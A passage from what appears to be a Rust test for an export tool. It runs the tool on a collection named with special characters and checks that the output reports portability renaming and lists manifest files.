            "--collection",
            "Picks & <more>",
            "--to",
            p(&out.path().join("text")),
            "--layout",
            "jekyll",
        ],
    );
    assert!(text.contains("renamed (0 for portability)"), "{text}");
    assert!(
        text.contains("also in the folder: manifest.csv, manifest.jsonl"),
        "{text}"
    );
}
